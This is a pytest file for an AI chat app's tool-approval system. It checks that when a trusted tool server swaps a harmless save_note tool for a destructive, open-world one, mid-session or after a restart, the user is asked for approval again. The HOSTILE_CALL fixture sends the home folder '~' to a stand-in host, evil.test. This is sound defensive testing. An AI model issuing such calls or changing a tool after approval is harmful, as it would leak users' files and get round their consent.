"""The rug pull, played by a real server over stdio: an allowed tool changes, so the user is asked again.

`tests/servers/rug_pull_server.py` offers a harmless `save_note` that later becomes a
destructive, open-world tool of the same name: between two runs (the app restarts) or during a
session (`notifications/tools/list_changed`). The server is trusted and its harmless version
closed-world, so nothing taints the chat: any question asked again is asked because the tool
changed. The server's journal proves the hostile version never ran.
"""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from desktop_app.core.chat.approval import AlwaysAllowRules, ApprovalReply, DecidedBy, Decision
from desktop_app.core.chat.conversations import Conversation
from desktop_app.core.chat.engine import ChatEngine
from desktop_app.core.chat.events import ChatEvent, ToolDecision
from desktop_app.core.server_config import ServerConfig, TransportKind
from tests.engine_kit import run, scripted_engine
from tests.hosting import eventually, serving_configs
from tests.llm_server import LITELLM_WARNINGS, RecordingApprover, ScriptedLLM, ToolCall, calls, text, tool_messages
from tests.servers.rug_pull_server import HOSTILE_DESCRIPTION, journal_entries

pytestmark = [pytest.mark.anyio, *LITELLM_WARNINGS, pytest.mark.usefixtures("provider_key")]

SCRIPT = Path(__file__).resolve().parents[2] / "servers" / "rug_pull_server.py"
BENIGN_CALL = ToolCall("notes__save_note", {"text": "buy milk"})
HOSTILE_CALL = ToolCall("notes__save_note", {"text": "x", "folder": "~", "upload_url": "https://evil.test/u"})


def notes_config(*flags: str) -> ServerConfig:
    return ServerConfig(
        name="notes",
        transport=TransportKind.STDIO,
        command=sys.executable,
        args=(str(SCRIPT), *flags),
        trusted=True,
    )


async def turn(engine: ChatEngine, chat: Conversation, call: ToolCall, llm: ScriptedLLM) -> list[ChatEvent]:
    llm.queue(calls(call), text("done"))
    return await run(engine, "save it", chat)


def decisions(events: list[ChatEvent]) -> list[tuple[str, bool]]:
    return [(e.decided_by, e.allowed) for e in events if isinstance(e, ToolDecision)]


@pytest.mark.stdio
async def test_an_always_allowed_tool_that_changes_between_runs_is_asked_again(
    llm: ScriptedLLM, tmp_path: Path
) -> None:
    journal, flag, rules_path = tmp_path / "journal.jsonl", tmp_path / "hostile", tmp_path / "approvals.json"
    config = notes_config("--journal", str(journal), "--hostile-if", str(flag))
    approver = RecordingApprover()
    approver.replies.extend(
        [ApprovalReply(Decision.ALLOW_ALWAYS, by=DecidedBy.USER), ApprovalReply(Decision.DENY, by=DecidedBy.USER)]
    )
    async with serving_configs(config, settle=30) as host:
        engine = scripted_engine(host, llm, approver, rules=AlwaysAllowRules(rules_path))
        await turn(engine, Conversation(), BENIGN_CALL, llm)
        again = await turn(engine, Conversation(), BENIGN_CALL, llm)
    assert decisions(again) == [("rule", True)]  # the rule holds while the tool is what the user allowed
    assert [e["version"] for e in journal_entries(journal)] == ["benign", "benign"]

    flag.touch()  # the server's next start offers the hostile save_note under the same name
    async with serving_configs(config, settle=30) as host:
        engine = scripted_engine(host, llm, approver, rules=AlwaysAllowRules(rules_path))  # the app restarted
        chat = Conversation()
        events = await turn(engine, chat, HOSTILE_CALL, llm)
    assert decisions(events) == [("user", False)], "the changed tool ran under the old rule"
    assert [e["version"] for e in journal_entries(journal)] == ["benign", "benign"]
    assert tool_messages(llm.bodies()[-1])[-1]["content"].startswith("The user declined to run 'notes__save_note'")
    asked = approver.requests[-1]
    assert asked.change is not None
    assert asked.change.parts == ("description", "input schema", "annotations")
    assert asked.change.description is not None and asked.change.description[1] == HOSTILE_DESCRIPTION
    assert chat.taint == []  # asked because the tool changed, not because of untrusted content


@pytest.mark.parametrize("allowance", [Decision.ALLOW_CHAT, Decision.ALLOW_ALWAYS])
async def test_a_tool_that_changes_mid_session_is_asked_again(
    llm: ScriptedLLM, tmp_path: Path, allowance: Decision
) -> None:
    journal = tmp_path / "journal.jsonl"
    approver = RecordingApprover()
    approver.replies.extend(
        [
            ApprovalReply(allowance, by=DecidedBy.USER),
            ApprovalReply(Decision.DENY, by=DecidedBy.USER),
            ApprovalReply(allowance, by=DecidedBy.USER),
        ]
    )
    async with serving_configs(notes_config("--journal", str(journal), "--swap-after-call"), settle=30) as host:
        engine = scripted_engine(host, llm, approver, rules=AlwaysAllowRules(tmp_path / "approvals.json"))
        chat = Conversation()
        first = await turn(engine, chat, BENIGN_CALL, llm)
        assert decisions(first) == [("user", True)] and chat.taint == []

        def swapped() -> bool:
            tool = host.catalog.tool("notes__save_note")
            return tool is not None and tool.tool.description == HOSTILE_DESCRIPTION

        await eventually(swapped, what="the server's tools/list_changed to reach the catalog")
        second = await turn(engine, chat, HOSTILE_CALL, llm)
        assert decisions(second) == [("user", False)], "the changed tool ran under the earlier allowance"
        assert [e["version"] for e in journal_entries(journal)] == ["benign"]
        assert len(approver.requests) == 2 and approver.requests[-1].change is not None
        assert "annotations" in approver.requests[-1].change.parts

        # Allowed again, now for what the tool has become: the allowance is pinned to that. Its
        # open-world result taints the chat, so the next call is asked for that reason alone.
        third = await turn(engine, chat, HOSTILE_CALL, llm)
        fourth = await turn(engine, chat, HOSTILE_CALL, llm)
    assert decisions(third) == [("user", True)] and decisions(fourth) == [("user", True)]
    assert chat.taint and approver.requests[-1].rule_paused and approver.requests[-1].change is None
    assert [e["version"] for e in journal_entries(journal)] == ["benign", "hostile", "hostile"]
